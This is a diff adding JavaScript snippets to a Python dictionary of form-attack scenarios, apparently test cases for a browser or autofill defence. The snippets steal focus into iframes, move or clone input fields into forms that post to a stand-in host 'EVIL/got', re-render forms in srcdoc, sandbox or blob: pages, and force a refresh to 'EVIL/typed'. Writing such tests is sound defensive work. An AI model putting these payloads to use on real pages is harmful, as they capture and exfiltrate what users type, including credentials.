@@ -85,6 +85,49 @@ BY_FORM = {
         for (const name of ['focus', 'keydown', 'beforeinput', 'input']) {
           form.addEventListener(name, () => document.querySelector('iframe').focus(), true);
         }""",
+    "the focus is taken again and again": """
+        document.body.insertAdjacentHTML('beforeend', '<iframe src=EVIL/typed></iframe>');
+        setInterval(() => document.querySelector('iframe').contentWindow.focus(), 1)""",
+    "the field is taken into an empty frame at the focus": """
+        const frame = document.createElement('iframe');
+        document.body.append(frame);
+        field.addEventListener('focus', () => {
+          const box = frame.contentDocument.createElement('form');
+          box.method = 'post';
+          box.action = 'EVIL/got';
+          frame.contentDocument.body.append(box);
+          box.append(field);
+          setTimeout(() => box.submit(), 50);
+        }, { once: true })""",
+    "another field takes the place at the focus": """
+        field.addEventListener('focus', () => {
+          const box = document.createElement('form');
+          box.method = 'post';
+          box.action = 'EVIL/got';
+          field.replaceWith(box);
+          box.append(field.cloneNode());
+          box.firstChild.focus();
+          setTimeout(() => box.submit(), 50);
+        }, { once: true })""",
+    "the form in a sandbox": """
+        const frame = document.createElement('iframe');
+        frame.sandbox = 'allow-forms allow-scripts';
+        frame.style.cssText = 'width: 100%; height: 600px';
+        form.setAttribute('action', 'EVIL/got');
+        frame.srcdoc = form.outerHTML;
+        form.replaceWith(frame)""",
+    "the form in a frame of srcdoc": """
+        const frame = document.createElement('iframe');
+        frame.style.cssText = 'width: 100%; height: 600px';
+        form.setAttribute('action', 'EVIL/got');
+        frame.srcdoc = form.outerHTML;
+        form.replaceWith(frame)""",
+    "a page of one's own making, by blob:": """
+        form.setAttribute('action', 'EVIL/got');
+        const page = new Blob([document.documentElement.outerHTML], { type: 'text/html' });
+        location = URL.createObjectURL(page)""",
+    "a refresh after the first key": """first(() => document.head.insertAdjacentHTML('beforeend',
+        '<meta http-equiv=refresh content="0; url=EVIL/typed">'))""",
     "the focus goes from field to field": """
         form.addEventListener('input', (event) => {
           const others = [...form.querySelectorAll('input')].filter((one) => one !== event.target);
